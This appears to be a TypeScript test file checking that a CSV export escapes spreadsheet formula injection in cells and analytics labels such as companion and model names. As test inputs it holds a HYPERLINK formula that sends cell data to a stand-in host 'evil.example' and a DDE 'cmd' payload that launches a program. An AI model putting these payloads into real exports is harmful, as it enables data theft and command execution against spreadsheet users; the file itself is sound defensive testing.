import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyticsCsv, type Analytics, type CostRow } from './analytics';
import { csvCell } from './csv';

/** One cell back as a spreadsheet reads it: unquoted. */
function read(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`],
    ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['Sage', 'Sage'],
    ['a, b', '"a, b"'],
    ['0.002000', '0.002000'],
    ['-0.5', '-0.5'],
  ])('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes numbers and empty values as they are', () => {
    expect([csvCell(42), csvCell(-3), csvCell(null), csvCell(undefined)]).toEqual(['42', '-3', '', '']);
  });

  it('never lets a text start a formula, and keeps all of it after the apostrophe', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string().map((s) => `=${s}`),
          fc.constantFrom('+', '-', '@', '\t', '\r').chain((c) => fc.string().map((s) => c + s)),
        ),
        (text) => {
          const shown = read(csvCell(text));
          if (!/^-?\d+(\.\d+)?$/.test(text)) expect(FORMULA.test(shown), JSON.stringify(shown)).toBe(false);
          expect(shown.startsWith("'") && FORMULA.test(text) ? shown.slice(1) : shown).toBe(text);
        },
      ),
      { numRuns: 500, seed: 20261207 },
    );
  });

  it('neutralises what the analytics export writes: companion and model names', () => {
    const row = (label: string): CostRow => ({
      key: label,
      label,
      replies: 1,
      inputTokens: 2,
      outputTokens: 3,
      costUsd: 0.5,
    });
    const analytics: Analytics = {
      range: { from: '2026-12-01', to: '2026-12-07' },
      refreshedAt: '2026-12-07T00:00:00Z',
      totals: {
        messages: 1,
        replies: 1,
        errors: 0,
        errorRate: 0,
        inputTokens: 2,
        outputTokens: 3,
        costUsd: 0.5,
        activeUsers: 1,
      },
      daily: [],
      byModel: [row('@evil/model')],
      byProvider: [row('-provider')],
      byCompanion: [row('=HYPERLINK("https://evil.example","Sage")')],
      latency: [],
      ratings: {
        byCompanion: [{ key: 'x', label: '+Persona', up: 1, down: 0, positiveRate: 1 }],
        byModel: [{ key: 'm', label: '=cmd|model', up: 0, down: 2, positiveRate: 0 }],
      },
    };
    const cells = analyticsCsv(analytics)
      .split('\r\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
      .map(read);
    expect(cells.filter((cell) => FORMULA.test(cell) && !/^-?\d/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example","Sage")`);
    expect(cells).toEqual(expect.arrayContaining(["'+Persona", "'=cmd|model"]));
  });
});
